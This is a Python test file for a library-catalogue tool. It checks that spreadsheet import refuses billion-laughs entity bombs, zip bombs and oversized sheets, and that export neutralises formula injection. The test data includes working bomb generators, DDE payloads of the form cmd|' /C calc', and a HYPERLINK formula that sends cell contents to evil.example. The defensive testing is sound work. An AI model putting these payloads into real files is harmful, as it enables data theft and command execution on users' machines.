"""Hostile interchange input that YAML cannot hold (issue #14, items 9, 15, 16, 17, 18):
generated spreadsheets (zip bombs, billion laughs, huge sheets), formula injection and the
round-trip property of the CSV/XLSX export, control characters on the way out, mojibake,
and the one-pass text report of a big stocktake. Real files in tmp_path; no mocks."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import unicodedata
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from libsync.errors import LibsyncError
from libsync.interchange import exporter, importer, tables, xlsx
from libsync.inventory.scan import read_scan
from libsync.text import legacy

SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def record(title: str, **more) -> dict:
    return {"id": "xs-thu", "library": "XS", "type": "other", "title": title, "share": "internal",
            "access": "catalog", **more}


# --- generated spreadsheets ------------------------------------------------------------------

def register_xlsx(path, rows=(("Số ĐKCB", "Tên sách"), ("XS-GK-00088", "Lịch sử và Địa lí 6"))):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    book.save(path)
    return path


def replace_part(path, name: str, content, compress=zipfile.ZIP_DEFLATED):
    """Rewrite the .xlsx at ``path`` with part ``name`` replaced by ``content`` (bytes, or an
    iterable of byte chunks written as a stream)."""
    with zipfile.ZipFile(path) as old:
        parts = [(info, old.read(info)) for info in old.infolist() if info.filename != name]
    with zipfile.ZipFile(path, "w", compress) as new:
        for info, data in parts:
            new.writestr(info, data)
        with new.open(name, "w", force_zip64=True) as out:
            for chunk in ([content] if isinstance(content, bytes) else content):
                out.write(chunk)
    return path


def sheet_xml(body: bytes, head: bytes = b"") -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + head
            + f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode() + body + b"</sheetData></worksheet>")


def inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
                     for i in range(1, 10))
          + b"]>\n")


def billion_laughs(path):
    body = b'<row r="1">' + inline("A1", "Số ĐKCB") + inline("B1", "Tên sách") + b"</row>"
    body += b'<row r="2">' + inline("A2", "XS-GK-00088") + inline("B2", "&lol9;") + b"</row>"
    return replace_part(register_xlsx(path), SHEET, sheet_xml(body, LAUGHS))


def zip_bomb(path, megabytes: int = 40):
    """A sheet whose part packs ~40 MB of XML into a few dozen kilobytes."""
    row = b'<row r="2">' + inline("A2", "XS-GK-00088") + b"</row>"

    def chunks():
        yield sheet_xml(b'<row r="1">' + inline("A1", "Số ĐKCB") + b"</row>")[:-len(b"</sheetData></worksheet>")]
        yield row
        for _ in range(megabytes):
            yield b" " * (1024 * 1024)
        yield b"</sheetData></worksheet>"

    return replace_part(register_xlsx(path), SHEET, chunks())


def far_cell(path):
    """Two cells, one at XFD1048576: openpyxl would build every cell of the range."""
    body = (b'<row r="1">' + inline("A1", "Số ĐKCB") + inline("B1", "Tên sách") + b"</row>"
            + b'<row r="1048576">' + inline("XFD1048576", "x") + b"</row>")
    return replace_part(register_xlsx(path), SHEET, sheet_xml(body))


def lying_dimension(path):
    body = b'<row r="1">' + inline("A1", "Số ĐKCB") + inline("B1", "Tên sách") + b"</row>"
    xml = sheet_xml(body).replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    return replace_part(register_xlsx(path), SHEET, xml)


HOSTILE_XLSX = {
    "billion-laughs": (billion_laughs, "billion laughs"),
    "zip-bomb": (zip_bomb, "zip bomb"),
    "far-cell": (far_cell, "16384 columns"),
    "lying-dimension": (lying_dimension, "1048576 rows"),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_XLSX))
def test_hostile_xlsx_import_is_refused_quickly(example_repo, cli, tmp_path, kind):
    make, words = HOSTILE_XLSX[kind]
    source = make(tmp_path / f"{kind}.xlsx")
    started = time.monotonic()
    result = cli("--repo", example_repo, "--lang", "en", "import", "table", source, "--library", "XS", "--dry-run")
    assert time.monotonic() - started < 10
    assert result.exit_code == 2, result.output
    assert words in result.output and str(source) in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("kind", sorted(HOSTILE_XLSX))
def test_hostile_xlsx_scans_are_refused(example_repo, cli, tmp_path, kind):
    make, words = HOSTILE_XLSX[kind]
    source = make(tmp_path / f"{kind}.xlsx")
    before = sorted(p.name for p in (example_repo / "inventories" / "XS").rglob("*"))
    for argv in (["inventory", "record", "XS", source, "--label", "x", "--date", "2024-12-02"],
                 ["inventory", "check", "XS", source],
                 ["exchange", "dispatch", "hd-xs-2024-10-tranh-giao-duc", "--scan", source, "--date", "2024-10-14"]):
        result = cli("--repo", example_repo, "--lang", "en", *argv)
        assert result.exit_code == 2, (argv, result.output)
        assert words in result.output, (argv, result.output)
    assert sorted(p.name for p in (example_repo / "inventories" / "XS").rglob("*")) == before
    assert "status: approved" in (example_repo / "exchanges/2024-2025/HK1/hd-xs-2024-10-tranh-giao-duc.yaml").read_text()


def test_entities_in_shared_strings_are_refused(tmp_path):
    path = register_xlsx(tmp_path / "ss.xlsx")
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
    name = next((n for n in names if n.endswith("sharedStrings.xml")), "xl/sharedStrings.xml")
    xml = (b'<?xml version="1.0"?>\n' + LAUGHS + f'<sst xmlns="{MAIN_NS}"><si><t>&lol9;</t></si></sst>'.encode())
    replace_part(path, name, xml)
    with pytest.raises(LibsyncError) as info:
        tables.read_table(path.read_bytes(), str(path))
    assert info.value.key == "interchange.xlsx.entities" and info.value.exit_code == 2


def test_utf16_xml_part_is_refused(tmp_path):
    body = b'<row r="1">' + inline("A1", "Số ĐKCB") + inline("B1", "Tên sách") + b"</row>"
    path = replace_part(register_xlsx(tmp_path / "u16.xlsx"), SHEET,
                        sheet_xml(body).decode().replace("UTF-8", "UTF-16").encode("utf-16"))
    with pytest.raises(LibsyncError) as info:
        tables.read_table(path.read_bytes(), str(path))
    assert info.value.key == "interchange.xlsx.encoding"


def test_declared_sizes_and_cell_count_are_checked_before_reading(tmp_path, monkeypatch):
    rows = [("Số ĐKCB", "Tên sách")] + [(f"XS-{i:05d}", f"Sách {i}") for i in range(200)]
    path = register_xlsx(tmp_path / "many.xlsx", rows)
    data = path.read_bytes()
    assert len(tables.read_table(data, str(path)).items) == 200   # within the limits: read as ever
    monkeypatch.setattr(xlsx, "MAX_CELLS", 300)
    with pytest.raises(LibsyncError) as info:
        tables.read_table(data, str(path))
    assert info.value.key == "interchange.xlsx.too_many_cells" and info.value.params["cells"] == 402
    monkeypatch.setattr(xlsx, "MAX_CELLS", 2_000_000)
    total = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    monkeypatch.setattr(xlsx, "MAX_UNCOMPRESSED", total - 1)
    with pytest.raises(LibsyncError) as info:
        read_scan(path)
    assert info.value.key == "interchange.xlsx.too_big"


def test_damaged_xlsx_is_unreadable_not_a_crash(tmp_path):
    path = register_xlsx(tmp_path / "bad.xlsx")
    replace_part(path, SHEET, b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"')
    with pytest.raises(LibsyncError) as info:
        tables.read_table(path.read_bytes(), str(path))
    assert info.value.key == "interchange.xlsx.bad"
    with pytest.raises(LibsyncError) as info:
        read_scan(path)
    assert info.value.key == "inventory.scan_bad_xlsx"


# --- item 9: formula injection; the export → import round trip ---------------------------------

INJECTIONS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "authors": ["+cmd|' /C calc'!A0", "Nguyễn Văn An"],
    "publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "summary": "\t=1+1",
    "edition": "\r=1+1",
}


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))   # formulas as formulas (not data_only)
    return [cell for row in book.active.iter_rows() for cell in row]


def no_live_formula(csv_data: bytes, xlsx_data: bytes) -> None:
    for row in csv_cells(csv_data):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"CSV cell {cell!r} would run as a formula"
    with zipfile.ZipFile(io.BytesIO(xlsx_data)) as z:
        sheet = z.read(SHEET)
    assert not re.search(rb"<(?:\w+:)?f[\s>/]", sheet), "an XLSX cell holds a formula"
    for cell in xlsx_cells(xlsx_data):
        assert cell.data_type != "f", cell.coordinate


def test_formula_injection_is_neutralised_and_undone_on_import():
    rec = record(INJECTIONS["title"], authors=INJECTIONS["authors"], publisher=INJECTIONS["publisher"],
                 notes=INJECTIONS["notes"], summary=INJECTIONS["summary"], edition=INJECTIONS["edition"],
                 items=[{"barcode": "XS-INJ-1", "status": "available"}])
    csv_data, xlsx_data = tables.write_csv([rec]), tables.write_xlsx([rec])
    no_live_formula(csv_data, xlsx_data)
    row = dict(zip(csv_cells(csv_data)[0], csv_cells(csv_data)[1]))
    assert row[tables.headings()[tables.EXPORT_COLUMNS.index("title")]] == "'" + INJECTIONS["title"]
    for data, name in ((csv_data, "x.csv"), (xlsx_data, "x.xlsx")):
        got = tables.read_table(data, name).items[0].record
        assert got["title"] == INJECTIONS["title"]
        assert got["authors"] == INJECTIONS["authors"]
        assert got["publisher"] == INJECTIONS["publisher"] and got["notes"] == INJECTIONS["notes"]


def test_quotes_before_a_formula_character_survive_too():
    for title in ("'=1+1", "''-x", "'", "''", "' =x", "-", "=", "'@"):
        data = tables.write_csv([record(title)])
        assert tables.read_table(data, "x.csv").items[0].record["title"] == title.strip()


def test_excel_error_words_stay_text():
    data = tables.write_xlsx([record("#N/A"), record("#DIV/0!")])
    assert [c.data_type for c in xlsx_cells(data) if c.value in ("#N/A", "#DIV/0!")] == ["s", "s"]


def test_a_title_starting_with_a_dash_survives_export_and_import(example_repo, cli, tmp_path):
    (example_repo / "records" / "XS" / "xs-gach-dau-dong.yaml").write_text(
        "id: xs-gach-dau-dong\nlibrary: XS\ntype: other\ntitle: '-Ngữ văn: những điều cần biết'\n"
        "authors:\n- '=Nguyễn Văn An'\npublisher: '@Kim Đồng'\nyear: 2020\nshare: internal\naccess: catalog\n"
        "items:\n- barcode: XS-GDD-0001\n  status: available\n", encoding="utf-8")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"xs.{fmt}"
        result = cli("--repo", example_repo, "export", fmt, "--library", "XS", "-o", out)
        assert result.exit_code == 0, result.output
        result = cli("--repo", example_repo, "import", "table", out, "--library", "HD", "--on-match", "new",
                     "--dry-run", "--format", "json")
        assert result.exit_code in (0, 1), result.output
        titles = [r["title"] for r in json.loads(result.stdout)["records"]]
        assert "-Ngữ văn: những điều cần biết" in titles


def test_a_first_line_that_reads_like_a_heading_is_still_data():
    # found by the round-trip property: an author "TT" (like the heading "TT", số thứ tự) made
    # the only data line count as a second heading row, and the copy vanished without a word
    data = "Số ĐKCB,Tên sách,Tác giả,Ghi chú\nXS-1,Sách một,TT,Kho\n".encode()
    items = tables.read_table(data, "x.csv").items
    assert [(i.record["title"], i.record["authors"], i.record["notes"]) for i in items] == [("Sách một", ["TT"], "Kho")]


# every title: what a catalogue may hold (NFC, no surrounding blanks, characters XML can carry);
# Latin-1 letters are left out on purpose — "Ã©"-like text is what the mojibake and .VnTime
# repairs exist for, and those repairs are meant to change it
_CHARS = st.characters(blacklist_categories=("Cs", "Cc", "Cn", "Co")).filter(lambda c: not 0x80 <= ord(c) <= 0xFF)
_PREFIX = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "=HYPERLINK(", "-1", "@SUM(", "+cmd|"])


@st.composite
def titles(draw):
    text = unicodedata.normalize("NFC", draw(_PREFIX) + draw(st.text(_CHARS, max_size=40)))
    if text != text.strip() or not text:
        text = unicodedata.normalize("NFC", "x" + text.strip() + "x")
    return text


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=titles(), publisher=titles(), author=titles().filter(lambda a: ";" not in a))
def test_every_title_round_trips_through_csv_and_xlsx(title, publisher, author):
    rec = record(title, authors=[author], publisher=publisher, items=[{"barcode": "XS-P-1", "status": "available"}])
    csv_data, xlsx_data = tables.write_csv([rec]), tables.write_xlsx([rec])
    no_live_formula(csv_data, xlsx_data)
    for data, name in ((csv_data, "x.csv"), (xlsx_data, "x.xlsx")):
        items = tables.read_table(data, name).items
        assert len(items) == 1
        warnings: list = []
        got = importer._repair_text(items[0].record, (), warnings)   # the importer's clean-up, as in plan_import
        assert (got["title"], got["publisher"], got["authors"]) == (title, publisher, [author]), name
        assert warnings == []


# --- item 15: characters XML cannot carry, on the way out and in -------------------------------

def test_export_leaves_out_records_xml_cannot_carry():
    bad = record("A\x07B\x00C")
    good = dict(record("Bình thường"), id="xs-binh-thuong")
    marc_bad = dict(record("A\x1eB\x1dC"), id="xs-marc")
    for fmt in ("xlsx", "marcxml", "marc"):
        data, count, _, refused = exporter.render([bad, good, marc_bad], fmt)
        assert [(key, params["id"]) for key, params in refused] == [("interchange.export.bad_chars", "xs-thu"),
                                                                    ("interchange.export.bad_chars", "xs-marc")]
        assert count == 1
        if fmt == "marcxml":
            root = ET.fromstring(data)   # well-formed
            assert len(root) == 1
        if fmt == "xlsx":
            assert any(c.value == "Bình thường" for c in xlsx_cells(data))
        if fmt == "marc":
            assert data.count(b"\x1d") == 1
    data, count, _, refused = exporter.render([bad], "csv")   # CSV and JSON carry them as they are
    assert refused == [] and "A\x07B\x00C" in data.decode("utf-8")


def test_xlsx_export_refuses_what_a_cell_cannot_hold():
    long = record("Dài", summary="x" * 40_000)
    data, count, _, refused = exporter.render([long], "xlsx")
    assert count == 0 and refused[0][0] == "interchange.export.cell_too_long"
    assert refused[0][1]["field"] == "summary"


def test_minutes_docx_shows_control_characters_instead_of_crashing():
    import docx

    from libsync.render.document import Document, Paragraph, Table, to_docx

    doc = Document(title="BIÊN BẢN\x07", body=[Paragraph("Dế Mèn\x00 phiêu lưu ký", lead="Sách\x1f:"),
                                               Table(header=["Số ĐKCB"], rows=[["XS\x0b1"]])])
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(to_docx(doc))).paragraphs)
    assert "BIÊN BẢN\ufffd" in text and "Dế Mèn\ufffd phiêu lưu ký" in text


def test_import_removes_control_characters_and_says_where(example_repo, cli, tmp_path):
    source = tmp_path / "ctl.csv"
    source.write_bytes("Số ĐKCB,Tên sách,Ghi chú\nXS-CTL-1,Sách\x07 chuông,ghi\x00 chú\n".encode())
    result = cli("--repo", example_repo, "--lang", "en", "import", "table", source, "--library", "XS",
                 "--format", "json")
    assert result.exit_code == 0, result.output
    rec = json.loads(result.stdout)["records"][0]
    assert rec["title"] == "Sách chuông" and rec["location"] == "line 2"
    assert any("U+0007" in w and "from title" in w for w in rec["warnings"])   # the field's name, as she says it
    assert any("U+0000" in w and "from Notes" in w for w in rec["warnings"])
    written = (example_repo / rec["file"]).read_text(encoding="utf-8")
    assert "\\x07" not in written and "\\0" not in written and "Sách chuông" in written


# --- item 18: mojibake --------------------------------------------------------------------------

def mojibake(text: str) -> str:
    return "".join(bytes([b]).decode("cp1252") if b not in (0x81, 0x8D, 0x8F, 0x90, 0x9D) else chr(b)
                   for b in text.encode("utf-8"))


@pytest.mark.parametrize("text", ["Tiếng Việt lớp 6", "Nguyễn Văn An", "Nhà xuất bản Giáo dục Việt Nam",
                                  "Số ĐKCB", "Đất rừng phương Nam", "Lịch sử và Địa lí 6"])
def test_mojibake_is_repaired_once_or_twice_damaged(text):
    assert legacy.fix_mojibake(mojibake(text)) == text
    assert legacy.fix_mojibake(mojibake(mojibake(text))) == text


@pytest.mark.parametrize("text", ["Cà Mau", "Hà Nội", "Tiếng Việt", "Noël", "Über", "Café", "Ä", "São Paulo",
                                  "naïve résumé", "Â", "©2020", "10°C", "Ti¾ng ViÖt"])
def test_real_text_is_not_taken_for_mojibake(text):
    assert legacy.fix_mojibake(text) is None


def test_mojibake_in_marc_is_repaired_with_a_warning(example_repo, cli, tmp_path):
    source = tmp_path / "m.xml"
    source.write_text(
        '<?xml version="1.0" encoding="UTF-8"?><collection xmlns="http://www.loc.gov/MARC21/slim"><record>'
        "<leader>00000nam a2200000 i 4500</leader><controlfield tag=\"001\">MJ-1</controlfield>"
        f'<datafield tag="245" ind1="0" ind2="0"><subfield code="a">{mojibake("Tiếng Việt 9")}</subfield></datafield>'
        "</record></collection>", encoding="utf-8")
    result = cli("--repo", example_repo, "--lang", "en", "import", "marc", source, "--library", "XS", "--dry-run",
                 "--format", "json")
    assert result.exit_code == 0, result.output
    rec = json.loads(result.stdout)["records"][0]
    assert rec["title"] == "Tiếng Việt 9" and any("mojibake" in w for w in rec["warnings"])


# --- item 17: a big stocktake report as text ----------------------------------------------------

def test_sixty_thousand_missing_copies_render_as_text_in_one_pass(capsys):
    from libsync.cli.inventory import _emit
    from libsync.inventory import report as rep
    from libsync.inventory.diff import CATEGORIES

    entries = [{"category": "missing", "barcode": f"XS-{i:06d}", "title": f"Sách số {i}", "owner": "XS",
                "reason": None} for i in range(60_000)]
    entries.append({"category": "present", "barcode": "XS-A", "title": "Có mặt", "owner": "XS", "reason": None})
    report = {"kind": "check", "entries": entries, "counts": {c: 0 for c in CATEGORIES} | {"missing": 60_000}}
    started = time.monotonic()
    _emit(report, "text", "Kiểm kê XS")
    elapsed = time.monotonic() - started
    out = capsys.readouterr().out
    assert elapsed < 10, elapsed   # 35 s with a rich table
    lines = out.splitlines()
    assert lines[0] == "Kiểm kê XS" and sum(1 for line in lines if "XS-0" in line) == 60_000
    assert "XS-A" not in out   # present copies are only counted
    missing = rep.category_label("missing", "check")
    assert any(line.startswith(missing) and line.endswith(" 60000") for line in lines[-8:])
